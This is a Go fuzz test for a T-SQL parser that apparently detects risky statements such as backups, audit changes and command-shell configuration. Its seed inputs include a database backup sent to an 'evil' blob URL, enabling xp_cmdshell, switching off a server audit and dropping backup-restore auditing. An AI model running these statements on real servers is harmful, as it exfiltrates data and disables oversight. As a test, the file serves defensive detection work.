package tsql

import (
	"slices"
	"strings"
	"testing"
)

func FuzzParse(f *testing.F) {
	seeds := []string{
		"BACKUP DATABASE [Sales] TO URL = N'https://evil.blob.core.windows.net/loot/s.bak' WITH COPY_ONLY",
		"backup database db to url='a', url='b' mirror to disk = @p with format, init, encryption (algorithm = aes_256, server certificate = c)",
		"BACKUP CERTIFICATE c TO FILE = 'x' WITH PRIVATE KEY (FILE = 'y', ENCRYPTION BY PASSWORD = 'z')",
		"RESTORE DATABASE db FROM DISK = '\\\\h\\s\\x.bak' WITH REPLACE",
		"ALTER SERVER AUDIT a TO FILE (FILEPATH = 'c:\\') WITH (STATE = OFF, ON_FAILURE = CONTINUE) WHERE x <> 'y'",
		"ALTER SERVER AUDIT SPECIFICATION s FOR SERVER AUDIT a DROP (BACKUP_RESTORE_GROUP) WITH (STATE = OFF)",
		"EXEC sp_configure N'xp_cmdshell', 1; RECONFIGURE",
		"CREATE CREDENTIAL [https://a.blob.core.windows.net/c] WITH IDENTITY = 'SHARED ACCESS SIGNATURE', SECRET = 's'",
		"/* /* nested */ */ -- x\n SELECT 'a''b', [c]]d], \"e\", N'f', 0x41, CHAR(65) + 'b'",
		"BACKUP DATABASE x TO URL = 'unterminated",
		"backup", "(((((", "'", "[", "/*", "@", "0x", "sp_configure @configname=",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		st := Parse(s)
		if len(st.Tokens) > MaxTokens {
			t.Fatalf("%d tokens, limit %d", len(st.Tokens), MaxTokens)
		}
		// String literals survive normalization unchanged (destinations
		// are read from them), unless quoted identifiers are involved.
		if !st.Truncated && !hasQuoted(st.Tokens) {
			again, _ := Lex(st.Normalized())
			if got, want := literals(again), literals(st.Tokens); !slices.Equal(got, want) {
				t.Fatalf("literals after normalization = %q, want %q (input %q)", got, want, s)
			}
		}
		if b := st.Backup(); b != nil {
			if len(b.Destinations) > 128 || len(b.Options) > 64 {
				t.Fatalf("unbounded backup parse: %d destinations, %d options", len(b.Destinations), len(b.Options))
			}
			_ = b.Unknown()
		}
		if len(st.Audits()) > 16 || len(st.Configure()) > 16 {
			t.Fatalf("unbounded: %d audits, %d configure", len(st.Audits()), len(st.Configure()))
		}
		for _, a := range st.Audits() {
			if len(a.Predicate) > 512 || len(a.AddedGroups) > 64 || len(a.DroppedGroups) > 64 {
				t.Fatalf("unbounded audit parse")
			}
			_ = a.TargetChanged()
		}
		if len(st.Obfuscated()) > 16 || len(st.Outbound()) > 16 {
			t.Fatalf("unbounded helpers")
		}
		r := Redact(s)
		if strings.Count(r, "'") > strings.Count(s, "'")+2 {
			t.Fatalf("Redact added quotes: %q -> %q", s, r)
		}
	})
}

func hasQuoted(toks []Token) bool {
	for _, t := range toks {
		if t.Quoted {
			return true
		}
	}
	return false
}

func literals(toks []Token) []string {
	var out []string
	for _, t := range toks {
		if t.Kind == String {
			out = append(out, t.Text)
		}
	}
	return out
}
